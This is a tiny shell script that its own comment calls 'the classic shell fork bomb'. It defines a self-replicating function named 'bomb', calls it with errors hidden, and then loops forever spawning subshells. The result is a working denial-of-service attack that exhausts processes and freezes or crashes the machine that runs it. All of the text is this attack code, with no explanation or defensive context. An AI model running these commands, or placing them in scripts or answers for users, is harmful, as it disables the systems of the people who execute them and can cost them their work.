# The classic shell fork bomb, and then an honest wait for what it does.
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do (:) 2>/dev/null; done
